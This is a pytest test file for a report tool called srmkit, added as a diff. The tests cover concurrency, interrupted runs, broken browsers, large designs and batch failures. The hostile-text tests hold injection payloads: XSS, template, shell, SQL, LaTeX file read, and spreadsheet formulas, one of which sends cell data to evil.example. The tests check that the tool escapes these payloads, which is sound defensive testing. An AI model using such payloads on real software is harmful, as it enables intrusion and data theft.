@@ -1,0 +1,352 @@
+"""Report runs at their edges: concurrent, interrupted and killed runs, bad output folders,
+missing or broken browsers, hostile text, a 10,000-server design and batches with failures.
+
+Nothing may be lost (a finished report is never replaced unless asked) and nothing may be left
+(no staging folder, reservation or kernel working folder survives a run, or the run after a
+killed one).
+"""
+
+from __future__ import annotations
+
+import csv
+import os
+import signal
+import subprocess
+import sys
+import tempfile
+import time
+from pathlib import Path
+
+import pytest
+from conftest import EXAMPLE, ROOT
+from pypdf import PdfReader
+from typer.testing import CliRunner
+
+from srmkit import report as report_module
+from srmkit.browser import offline_page
+from srmkit.cli import app
+from srmkit.execution import ReportError
+from srmkit.folders import STAGING_PREFIX, WORK_PREFIX
+from srmkit.report import render
+
+pytestmark = [pytest.mark.notebook, pytest.mark.timeout(300)]
+SRMKIT = str(Path(sys.executable).with_name("srmkit"))
+
+
+def start(*args: str, env: dict[str, str] | None = None) -> subprocess.Popen[str]:
+    return subprocess.Popen(
+        [SRMKIT, *args],
+        cwd=ROOT,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+        env={**os.environ, **(env or {})},
+    )
+
+
+def leftovers(out: Path) -> list[Path]:
+    """Hidden files and folders under ``out`` (staging folders, reservation marks)."""
+    return list(out.rglob(".*")) if out.exists() else []
+
+
+def work_dirs(pid: int) -> list[Path]:
+    """The kernel and browser working folders of run ``pid`` in the temp directory."""
+    return list(Path(tempfile.gettempdir()).glob(f"{WORK_PREFIX}*-{pid}-*"))
+
+
+def wait_for_staging(out: Path, timeout_s: float = 60) -> Path:
+    """Wait until a run has begun writing a report; return its staging folder."""
+    deadline = time.monotonic() + timeout_s
+    while time.monotonic() < deadline:
+        found = list(out.glob(f"*/{STAGING_PREFIX}*"))
+        if found:
+            return found[0]
+        time.sleep(0.05)
+    raise AssertionError("the run never began writing")
+
+
+def test_concurrent_runs_on_one_scenario_each_land(tmp_path: Path) -> None:
+    """Two runs at once on the same scenario and folder: both succeed, neither replaces the
+    other, nothing is left over."""
+    out = tmp_path / "reports"
+    runs = [start("report", str(EXAMPLE), "--out", str(out), "--to", "html") for _ in range(2)]
+    results = [r.communicate(timeout=240) for r in runs]
+    assert [r.returncode for r in runs] == [0, 0], results
+    folders = sorted(p for p in (out / "northwind-traders").iterdir())
+    assert len(folders) == 2
+    assert folders[0].name == "1.0"
+    assert folders[1].name.startswith("1.0-")
+    for folder in folders:
+        assert (folder / "design_document.html").stat().st_size > 100_000
+        assert (folder / "findings.json").exists()
+    assert leftovers(out) == []
+
+
+def test_sigterm_removes_the_unfinished_report(tmp_path: Path) -> None:
+    """SIGTERM ends a run as Ctrl-C does: exit 130, and its staging folder, reservation and
+    kernel working folder are gone."""
+    out = tmp_path / "reports"
+    run = start("report", str(EXAMPLE), "--out", str(out), "--to", "html")
+    wait_for_staging(out)
+    run.send_signal(signal.SIGTERM)
+    _, err = run.communicate(timeout=60)
+    assert run.returncode == 130
+    assert "interrupted" in err
+    assert "Traceback" not in err
+    assert not out.exists() or not any(out.rglob("*"))
+    assert work_dirs(run.pid) == []
+
+
+def test_the_run_after_a_sigkill_removes_its_debris(tmp_path: Path) -> None:
+    """A run killed outright leaves its staging folder, reservation and working folder; the
+    next run removes them and lands in the name the killed run had reserved."""
+    out = tmp_path / "reports"
+    killed = start("report", str(EXAMPLE), "--out", str(out), "--to", "html")
+    staging = wait_for_staging(out)
+    killed.kill()
+    killed.wait(timeout=30)
+    assert staging.exists()
+    assert (out / "northwind-traders" / "1.0").exists()  # reserved, empty
+    assert work_dirs(killed.pid)
+
+    after = start("report", str(EXAMPLE), "--out", str(out), "--to", "html")
+    _, err = after.communicate(timeout=240)
+    assert after.returncode == 0, err
+    assert leftovers(out) == []
+    assert work_dirs(killed.pid) == []
+    assert [p.name for p in (out / "northwind-traders").iterdir()] == ["1.0"]
+    assert (out / "northwind-traders" / "1.0" / "design_document.html").exists()
+
+
+def test_an_output_folder_that_cannot_be_made_exits_2(tmp_path: Path) -> None:
+    blocker = tmp_path / "a-file"
+    blocker.write_text("not a folder", encoding="utf-8")
+    r = CliRunner().invoke(app, ["report", str(EXAMPLE), "--out", str(blocker / "x")])
+    assert r.exit_code == 2
+    assert "cannot create the output folder" in r.stderr
+    assert "nothing was rendered" in r.stderr
+    assert blocker.read_text(encoding="utf-8") == "not a folder"
+
+
+def test_pdf_without_a_browser_exits_2_before_rendering(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("SRMKIT_CHROMIUM", str(tmp_path / "no-such-browser"))
+    out = tmp_path / "reports"
+    r = CliRunner().invoke(app, ["report", str(EXAMPLE), "--out", str(out), "--to", "pdf"])
+    assert r.exit_code == 2
+    assert "No Chrome/Chromium found" in r.stderr
+    assert not out.exists()
+
+
+def test_a_browser_that_fails_to_start_fails_the_run(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A browser that exits at start: exit 1 with a short reason, and nothing left behind."""
+    broken = tmp_path / "chromium"
+    broken.write_text("#!/bin/sh\nexit 3\n", encoding="utf-8")
+    broken.chmod(0o755)
+    monkeypatch.setenv("SRMKIT_CHROMIUM", str(broken))
+    out = tmp_path / "reports"
+    r = CliRunner().invoke(app, ["report", str(EXAMPLE), "--out", str(out)])
+    assert r.exit_code == 1
+    assert "did not start (it exited with code 3)" in r.stderr
+    assert len(r.stderr) < 600
+    assert "nothing rendered" in r.stdout
+    assert not out.exists()
+
+
+# --- hostile text -----------------------------------------------------------------------------
+
+PAYLOADS = {
+    "customer": "<script>alert('c')</script> Evil & Co",
+    "project": '"><img src=x onerror=alert(1)> {{ 7*7 }} ${7*7}',
+    "author": "$(touch pwned) `id` '; DROP TABLE x; --",
+    "notes": '=HYPERLINK("http://evil.example/?d="&A2,"x")\n<iframe src=javascript:alert(2)>'
+    "\n\\input{/etc/passwd} [link](javascript:alert(3)) {% raw %}",
+}
+
+
+def hostile_params(tmp_path: Path) -> Path:
+    """The example with a payload in every free-text field and an apostrophe in a site name."""
+    import yaml
+
+    data = yaml.safe_load(EXAMPLE.read_text(encoding="utf-8"))
+    data["document"].update(PAYLOADS)
+    data["accept"] = [{"id": "RLP-SIZE", "reason": "<b>bold</b> =cmd|' /C calc'!A0"}]
+    text = yaml.safe_dump(data, allow_unicode=True, sort_keys=False)
+    path = tmp_path / "hostile.yaml"
+    path.write_text(text.replace("Utrecht", "Utrecht O'Hare"), encoding="utf-8")
+    return path
+
+
+@pytest.mark.browser
+@pytest.mark.usefixtures("need_browser")
+def test_hostile_text_is_shown_as_text_everywhere(tmp_path: Path) -> None:
+    """Payloads in every free-text field: escaped in the HTML (no script runs, no dialog opens,
+    nothing is fetched), printed literally in the PDF, never evaluated by a spreadsheet."""
+    path = hostile_params(tmp_path)
+    result = render([path], tmp_path / "reports", ("html", "pdf"))
+    assert result.failures == []
+    [rep] = result.reports
+    folder = rep.folder
+    assert folder.parent.parent == tmp_path / "reports"  # the customer name made no path
+    html = (folder / "design_document.html").read_text(encoding="utf-8")
+    assert "<script>alert('c')" not in html
+    assert "&lt;script&gt;alert(" in html
+    assert "<img src=x" not in html
+    assert "<iframe" not in html
+    assert "{{ 7*7 }}" in html  # not evaluated by a template
+    assert not (ROOT / "pwned").exists()
+    assert not (tmp_path / "pwned").exists()
+
+    with offline_page() as (page, refused):
+        dialogs: list[str] = []
+        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
+        page.goto((folder / "design_document.html").as_uri(), wait_until="load")
+        page.wait_for_timeout(300)
+        assert dialogs == []
+        assert refused == []
+        assert "Evil & Co" in page.inner_text("body")
+
+    text = "\n".join(p.extract_text() for p in PdfReader(folder / "design_document.pdf").pages)
+    flat = " ".join(text.split())
+    assert "<script>alert('c')</script> Evil & Co" in flat
+    assert "{{ 7*7 }}" in flat
+
+    for row in csv.reader((folder / "plan.csv").open(encoding="utf-8")):
+        assert not any(cell.startswith(("=", "+", "@")) for cell in row)
+    from openpyxl import load_workbook
+
+    book = load_workbook(folder / "plan.xlsx")
+    assert all(c.data_type != "f" for ws in book for row in ws.iter_rows() for c in row)
+
+
+def test_exports_never_write_a_formula(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Even text that starts like a formula (not possible in today's names) is written as text."""
+    from openpyxl import load_workbook
+
+    from srmkit import exports
+    from srmkit.design import Design
+    from srmkit.params import load_scenario
+
+    design = Design(load_scenario(EXAMPLE))
+    rows = exports.mirror_rows(design)
+    evil = ['=HYPERLINK("http://evil.example")', "+1+1", "-2+3", "@SUM(A1)", "\t=1"]
+    for row, text in zip(rows, evil, strict=False):
+        row["server"] = text
+    monkeypatch.setattr(exports, "mirror_rows", lambda _design: rows)
+    exports.write_plan_csv(design, tmp_path / "plan.csv")
+    exports.write_plan_xlsx(design, tmp_path / "plan.xlsx")
+    written = [r["server"] for r in csv.DictReader((tmp_path / "plan.csv").open(encoding="utf-8"))]
+    assert written[: len(evil)] == ["'" + t for t in evil]
+    sheet = load_workbook(tmp_path / "plan.xlsx")["mirrors"]
+    cells = [sheet.cell(row=i + 2, column=1) for i in range(len(evil))]
+    assert [c.value for c in cells] == evil
+    assert {c.data_type for c in cells} == {"s"}
+
+
+# --- large designs ----------------------------------------------------------------------------
+
+
+def servers_params(tmp_path: Path, count: int) -> Path:
+    text = EXAMPLE.read_text(encoding="utf-8")
+    head, tail = text.split("\nservers:")[0], "targets:" + text.split("targets:")[1]
+    rows = "".join(
+        f"  - {{name: MBX{i:05d}, site: Amsterdam, users: 500, profile: light, "
+        f"mailbox_quota_gib: 0.25, guest_os: windows-2008-x64, exchange_version: 2007}}\n"
+        for i in range(count)
+    )
+    path = tmp_path / f"servers-{count}.yaml"
+    path.write_text(f"{head}\nservers:\n{rows}\n{tail}", encoding="utf-8")
+    return path
+
+
+@pytest.mark.browser
+@pytest.mark.usefixtures("need_browser")
+@pytest.mark.timeout(600)
+def test_ten_thousand_servers_render(tmp_path: Path) -> None:
+    """The largest accepted design renders: long tables are summarised in the document and
+    complete in plan.xlsx and plan.csv."""
+    path = servers_params(tmp_path, 10_000)
+    result = render([path], tmp_path / "reports", ("html", "pdf"))
+    assert result.failures == []
+    folder = result.reports[0].folder
+    html = (folder / "design_document.html").read_text(encoding="utf-8")
+    assert "The first 40 of 10,000 rows are shown" in html
+    assert "MBX00039" in html
+    assert "MBX09999" not in html
+    assert len(PdfReader(folder / "design_document.pdf").pages) < 40
+    from openpyxl import load_workbook
+
+    book = load_workbook(folder / "plan.xlsx", read_only=True)
+    rows = sum(1 for _ in book["servers"].iter_rows())
+    assert rows == 1 + 10_000  # header, the mailbox servers
+    with (folder / "plan.csv").open(encoding="utf-8") as f:
+        assert sum(1 for _ in f) == 1 + 50_002  # header, 5 mirrors a server, 2 Hub LUNs
+
+
+# --- batches ----------------------------------------------------------------------------------
+
+
+def test_batch_with_a_failing_notebook(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Two good files and one whose notebook fails: the good ones land, the failed one leaves
+    nothing, exit 1 with the reason; the index lists the two that landed."""
+    good = [EXAMPLE, ROOT / "params" / "async-long-distance.yaml"]
+    bad = tmp_path / "fails.yaml"
+    bad.write_text(
+        EXAMPLE.read_text(encoding="utf-8").replace("Northwind Traders", "Failing Inc"), "utf-8"
+    )
+    real = report_module.execute
+
+    def execute(spec, params, *args, **kwargs):  # type: ignore[no-untyped-def]
+        if params.name == "fails.yaml":
+            raise ReportError(f"the notebook {spec.notebook} failed in cell 7: ValueError: boom")
+        return real(spec, params, *args, **kwargs)
+
+    monkeypatch.setattr(report_module, "execute", execute)
+    out = tmp_path / "reports"
+    r = CliRunner().invoke(
+        app, ["report", str(good[0]), str(bad), str(good[1]), "--out", str(out), "--to", "html"]
+    )
+    assert r.exit_code == 1
+    assert f"failed: {bad}: the notebook design_document.ipynb failed in cell 7" in r.stderr
+    assert "2 files rendered" in r.stdout
+    assert "1 failed" in r.stdout
+    assert sorted(p.name for p in out.iterdir()) == [
+        "fabrikam-logistics",
+        "index.html",
+        "northwind-traders",
+    ]
+    assert leftovers(out) == []
+
+
+def test_batch_with_an_invalid_file_renders_nothing(tmp_path: Path) -> None:
+    """Two good files and one invalid: every problem is listed, exit 2, nothing is written."""
+    bad = tmp_path / "bad.yaml"
+    bad.write_text(EXAMPLE.read_text(encoding="utf-8").replace("flare: 29", "flare: 999"), "utf-8")
+    out = tmp_path / "reports"
+    r = CliRunner().invoke(app, ["report", str(EXAMPLE), str(bad), str(EXAMPLE), "--out", str(out)])
+    assert r.exit_code == 2
+    assert r.stderr.count("arrays[") == 2  # both arrays of the bad file
+    assert not out.exists()
+
+
+@pytest.mark.browser
+@pytest.mark.usefixtures("need_browser")
+def test_index_opens_offline_and_every_link_resolves(tmp_path: Path) -> None:
+    out = tmp_path / "reports"
+    result = render([EXAMPLE, ROOT / "params" / "cx3-upgrade.yaml"], out, ("html",))
+    assert result.index == out / "index.html"
+    with offline_page() as (page, refused):
+        page.goto(result.index.as_uri(), wait_until="load")
+        links = page.eval_on_selector_all("a", "els => els.map(e => e.href)")
+        text = page.inner_text("body")
+        assert refused == []
+    assert "Northwind Traders" in text
+    assert "Woodgrove Bank" in text
+    assert "does not fit" in text
+    assert len(links) == 2
+    for link in links:
+        assert link.startswith("file://")
+        assert Path(link.removeprefix("file://")).is_file()
